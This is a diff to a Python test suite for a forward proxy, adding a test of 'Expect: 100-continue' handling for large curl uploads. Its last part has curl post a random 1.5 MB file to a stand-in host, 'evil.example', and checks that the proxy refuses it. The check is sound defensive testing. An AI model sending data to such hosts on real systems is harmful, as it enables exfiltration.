@@ -10,6 +10,7 @@ from __future__ import annotations
 import asyncio
 import hashlib
 import json
+import os
 import shutil
 import ssl
 from collections.abc import AsyncIterator
@@ -569,3 +570,28 @@ async def test_no_proxy_behaviour(
     monkeypatch.setenv("NO_PROXY", "example.test")  # a suffix: api.example.test goes direct
     assert await _client_answer(client, f"http://{API_HOST}/x") == "direct"
     assert echo_server.requests >= 3  # the direct calls reached the echo without the proxy
+
+
+async def test_expect_100_continue_is_answered_by_the_proxy(
+    fproxy: Runtime, upstream: Upstream, token_server: TokenServer, tmp_path: Path
+) -> None:
+    """curl sends `Expect: 100-continue` with bodies over 1 MiB and waits for the answer."""
+    body = tmp_path / "big.bin"
+    body.write_bytes(os.urandom(1_500_000))
+    status, text, err = await run_curl(
+        "-v", "-x", proxy_url(fproxy), "--data-binary", f"@{body}", f"http://{API_HOST}/v1/up"
+    )
+    assert status == 200
+    assert "HTTP/1.1 100 Continue" in err
+    echo = json.loads(text)
+    assert echo["body_sha256"] == hashlib.sha256(body.read_bytes()).hexdigest()
+    assert header_values(echo, "Expect") == []
+    assert_upstream_saw_token(echo, token_server, upstream.port)
+
+    # A request the proxy refuses never invites the body.
+    status, _, err = await run_curl(
+        "-v", "-x", proxy_url(fproxy), "--data-binary", f"@{body}", "http://evil.example/v1/up"
+    )
+    assert status == 404
+    assert "100 Continue" not in err
+    assert upstream.echo.requests == 1
